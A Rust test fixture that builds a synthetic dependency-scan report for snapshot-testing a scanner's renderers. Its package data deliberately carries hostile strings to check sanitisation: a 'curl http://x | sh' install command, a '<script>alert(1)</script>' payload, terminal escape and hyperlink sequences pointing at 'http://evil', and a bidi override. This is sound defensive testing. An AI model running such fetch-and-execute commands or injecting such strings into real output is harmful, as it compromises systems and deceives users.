//! The one scan scenario every `deptrust scan` renderer is snapshotted on, and a rule catalog
//! of its own so the snapshots do not move when the real catalog's prose is edited.
//!
//! Two projects: an npm lockfile with a denied new publisher (with evidence), a warned install
//! script, an allowed finding under an exception and clean packages; and a Poetry lockfile with
//! unknown facts (one reason shared by three signals) and a rule the catalog does not know.
//! Registry text is hostile: ANSI and OSC escapes, `|`, `<script>`, backticks, a newline, a
//! GitHub mention and a bidi override, so each renderer's snapshot shows it sanitized or
//! escaped.

use std::collections::BTreeMap;

use serde_json::json;

use crate::rules::{Catalog, Level, Rule, Severity};
use crate::scan::{
    Coverage, ExceptionNote, Finding, Gate, PackageResult, ProjectResult, SCHEMA_VERSION,
    ScanError, ScanReport, Summary, UnknownFact,
};

/// The scenario.
pub(super) fn scan_report() -> ScanReport {
    let npm = project(
        "package-lock.json",
        "npm",
        37.2,
        vec![
            package(
                "npm",
                "foo",
                "1.2.3",
                (true, Some(12)),
                (0.4, 80.0),
                vec![
                    finding(
                        "new-publisher",
                        Level::Deny,
                        Severity::High,
                        "1.2.3 was published by mallory\u{1b}[31m, who never published foo before\u{202e}txt.exe",
                        json!({
                            "publisher": "mallory\u{1b}[31m",
                            "previous_publishers": ["alice"],
                            "published": "2026-10-30T08:00:00Z"
                        }),
                        None,
                    ),
                    finding(
                        "unmaintained",
                        Level::Warn,
                        Severity::Medium,
                        "no release for 31 months before 1.2.3",
                        json!({"months": 31}),
                        None,
                    ),
                ],
                vec![],
            ),
            package(
                "npm",
                "evil|pkg",
                "1.0.0-<b>",
                (false, Some(40)),
                (0.2, 25.0),
                vec![finding(
                    "install-script",
                    Level::Warn,
                    Severity::Medium,
                    "postinstall runs `curl http://x | sh`\n<script>alert(1)</script> \u{1b}]8;;http://evil\u{7}click\u{1b}]8;;\u{7} cc @octocat **now**",
                    json!({"script": "postinstall", "command": "curl http://x | sh"}),
                    None,
                )],
                vec![],
            ),
            package(
                "npm",
                "left-pad",
                "1.3.0",
                (true, Some(55)),
                (0.05, 0.0),
                vec![finding(
                    "unmaintained",
                    Level::Allow,
                    Severity::Medium,
                    "no release for 96 months before 1.3.0",
                    json!({"months": 96}),
                    Some("vendored, frozen"),
                )],
                vec![],
            ),
            package(
                "npm",
                "lodash",
                "4.17.21",
                (true, Some(70)),
                (0.3, 0.0),
                vec![],
                vec![],
            ),
            package(
                "npm",
                "chalk",
                "5.3.0",
                (false, None),
                (0.1, 0.0),
                vec![],
                vec![],
            ),
        ],
    );
    let pypi = project(
        "./services/api/poetry.lock",
        "pypi",
        5.0,
        vec![
            package(
                "pypi",
                "idna",
                "3.7",
                (false, Some(88)),
                (0.2, 25.0),
                vec![finding(
                    "no-provenance",
                    Level::Warn,
                    Severity::Medium,
                    "no attestation for idna-3.7-py3-none-any.whl",
                    json!({"file": "idna-3.7-py3-none-any.whl"}),
                    None,
                )],
                vec![],
            ),
            package(
                "pypi",
                "requests",
                "2.32.3",
                (true, Some(120)),
                (0.6, 0.0),
                vec![],
                vec![
                    unknown(
                        "new-publisher",
                        "releases",
                        "pypi.org: HTTP 429 Too Many Requests",
                    ),
                    unknown(
                        "unmaintained",
                        "releases",
                        "pypi.org: HTTP 429 Too Many Requests",
                    ),
                ],
            ),
            package(
                "pypi",
                "urllib3",
                "2.2.1",
                (false, Some(150)),
                (0.3, 0.0),
                vec![],
                vec![
                    unknown(
                        "new-publisher",
                        "releases",
                        "pypi.org: HTTP 429 Too Many Requests",
                    ),
                    unknown(
                        "no-provenance",
                        "provenance",
                        "attestation \u{1b}[2Jbundle did not parse",
                    ),
                ],
            ),
            package(
                "pypi",
                "certifi",
                "2024.2.2",
                (false, Some(30)),
                (0.3, 0.0),
                vec![],
                vec![],
            ),
        ],
    );
    ScanReport {
        schema_version: SCHEMA_VERSION,
        now: "2026-11-01T12:00:00Z".parse().unwrap(),
        exposure_score: 37.2,
        previous: None,
        gate: Gate {
            passed: false,
            unevaluated: false,
            reasons: vec!["npm:foo@1.2.3: new-publisher (deny)".to_string()],
        },
        coverage: coverage(npm.packages.iter().chain(&pypi.packages)),
        projects: vec![npm, pypi],
        exceptions: vec![ExceptionNote {
            package: "npm:is-odd@3.0.1".to_string(),
            rule: "install-script".to_string(),
            problem: crate::model::ExceptionProblem::Unused,
            message: "no package matched this exception".to_string(),
        }],
        errors: vec![ScanError {
            lockfile: "web/yarn.lock".to_string(),
            message: "failed to parse `web/yarn.lock` as yarn berry: line 3: expected a key"
                .to_string(),
        }],
    }
}

/// A report in which nothing warns: the npm project with only its allowed and clean packages.
pub(super) fn quiet_report() -> ScanReport {
    let mut report = scan_report();
    report.projects.truncate(1);
    if let Some(project) = report.projects.first_mut() {
        project
            .packages
            .retain(|package| package.findings.iter().all(|f| f.level == Level::Allow));
        project.exposure_score = 0.0;
        project.summary = summarize(&project.packages);
        project.coverage = coverage(&project.packages);
        report.coverage = project.coverage.clone();
    }
    report.exposure_score = 0.0;
    report.gate = Gate {
        passed: true,
        unevaluated: false,
        reasons: Vec::new(),
    };
    report.exceptions.clear();
    report.errors.clear();
    report
}

/// The scenario scanned with `--baseline` holding `npm:foo@1.2.3`'s `new-publisher`: shown,
/// marked, not gating, so the gate passes (the unreadable lockfile is left out).
pub(super) fn baseline_report() -> ScanReport {
    let mut report = scan_report();
    report.errors.clear();
    for finding in report
        .projects
        .iter_mut()
        .flat_map(|p| &mut p.packages)
        .flat_map(|p| &mut p.findings)
        .filter(|f| f.rule == "new-publisher")
    {
        finding.baseline = true;
    }
    report.gate = Gate {
        passed: true,
        unevaluated: false,
        reasons: Vec::new(),
    };
    report
}

/// A report with `count` denied findings, one per package, each with a long message.
pub(super) fn large_report(count: usize) -> ScanReport {
    let mut report = scan_report();
    let packages: Vec<PackageResult> = (0..count)
        .map(|n| {
            package(
                "npm",
                &format!("package-{n:05}"),
                "1.0.0",
                (false, None),
                (0.5, 50.0),
                vec![finding(
                    "new-publisher",
                    Level::Deny,
                    Severity::High,
                    &format!(
                        "{n}: {}",
                        "published by someone new | <b>bold</b> ".repeat(8)
                    ),
                    json!({}),
                    None,
                )],
                vec![unknown(
                    "owners-changed",
                    "owners",
                    &format!("`https://mirror-{n}.example/x` timed out"),
                )],
            )
        })
        .collect();
    report.gate.reasons = packages
        .iter()
        .map(|package| format!("{}: new-publisher (deny)", package.id))
        .collect();
    if let Some(project) = report.projects.first_mut() {
        project.packages = packages;
        project.summary = summarize(&project.packages);
        project.coverage = coverage(&project.packages);
    }
    report.coverage = coverage(report.projects.iter().flat_map(|p| &p.packages));
    report
}

/// Rules for the scenario's findings, except `no-provenance`, which is left out so the
/// renderers show how they treat a rule the catalog does not know.
pub(super) fn catalog() -> Catalog {
    let rule = |id: &str, title: &str, level: Level, severity: Severity| Rule {
        id: id.to_string(),
        title: title.to_string(),
        why: format!("Why {id} matters: the incident it comes from."),
        checks: format!("What {id} checks."),
        remediation: format!("How to resolve {id} findings."),
        level,
        severity,
        parameters: BTreeMap::new(),
    };
    // Sorted by id, as `Catalog::rule` searches it.
    let mut rules = vec![
        rule(
            "install-script",
            "Package runs an install script",
            Level::Warn,
            Severity::Medium,
        ),
        rule(
            "unmaintained",
            "No release for a long time",
            Level::Warn,
            Severity::Medium,
        ),
        rule(
            "new-publisher",
            "Release published by someone who never published the package before",
            Level::Deny,
            Severity::High,
        ),
    ];
    rules.sort_by(|a, b| a.id.cmp(&b.id));
    Catalog {
        rules,
        weights: crate::rules::catalog().weights.clone(),
    }
}

fn project(
    lockfile: &str,
    ecosystem: &str,
    exposure_score: f64,
    packages: Vec<PackageResult>,
) -> ProjectResult {
    ProjectResult {
        lockfile: lockfile.to_string(),
        ecosystem: ecosystem.to_string(),
        exposure_score,
        previous: None,
        summary: summarize(&packages),
        coverage: coverage(&packages),
        packages,
    }
}

/// The coverage of these packages, 16 signals each.
fn coverage<'a>(packages: impl IntoIterator<Item = &'a PackageResult>) -> Coverage {
    let mut tally = crate::coverage::Tally::default();
    let (mut total, mut unknown) = (0, 0);
    for package in packages {
        total += 16;
        for fact in &package.unknown {
            unknown += 1;
            tally.add(&package.id, &fact.fact, &typed(&fact.reason));
        }
    }
    Coverage::from_tally(total - unknown, total, 0, &tally)
}

/// The typed reason behind each reason text of this fixture (a report keeps only the words).
fn typed(reason: &str) -> crate::model::facts::Unknown {
    use crate::model::facts::{Unknown, UnknownKind};
    if reason == "pypi.org: HTTP 429 Too Many Requests" {
        return Unknown::new(UnknownKind::HttpStatus(429), reason);
    }
    match reason
        .strip_prefix('`')
        .and_then(|rest| rest.strip_suffix("` timed out"))
    {
        Some(url) => Unknown {
            kind: UnknownKind::TimedOut,
            detail: reason.to_string(),
            url: Some(url.to_string()),
        },
        None => Unknown::other(reason),
    }
}

fn summarize(packages: &[PackageResult]) -> Summary {
    let count = |level: Level| {
        packages
            .iter()
            .flat_map(|package| &package.findings)
            .filter(|finding| finding.level == level)
            .count()
    };
    Summary {
        packages: packages.len(),
        skipped: 0,
        deny: count(Level::Deny),
        warn: count(Level::Warn),
        allow: count(Level::Allow),
        unknown: packages
            .iter()
            .filter(|package| !package.unknown.is_empty())
            .count(),
    }
}

fn package(
    ecosystem: &str,
    name: &str,
    version: &str,
    (direct, line): (bool, Option<u32>),
    (blast_radius, risk): (f64, f64),
    findings: Vec<Finding>,
    unknown: Vec<UnknownFact>,
) -> PackageResult {
    PackageResult {
        id: format!("{ecosystem}:{name}@{version}"),
        name: name.to_string(),
        version: version.to_string(),
        direct,
        dev: false,
        line,
        blast_radius,
        build_time: Vec::new(),
        risk,
        weighted_risk: risk * blast_radius,
        contribution: risk * blast_radius,
        findings,
        unknown,
    }
}

fn finding(
    rule: &str,
    level: Level,
    severity: Severity,
    message: &str,
    evidence: serde_json::Value,
    exception: Option<&str>,
) -> Finding {
    Finding {
        rule: rule.to_string(),
        level,
        severity,
        message: message.to_string(),
        evidence,
        exception: exception.map(str::to_string),
        baseline: false,
    }
}

fn unknown(rule: &str, fact: &str, reason: &str) -> UnknownFact {
    UnknownFact {
        rule: rule.to_string(),
        fact: fact.to_string(),
        reason: reason.to_string(),
    }
}
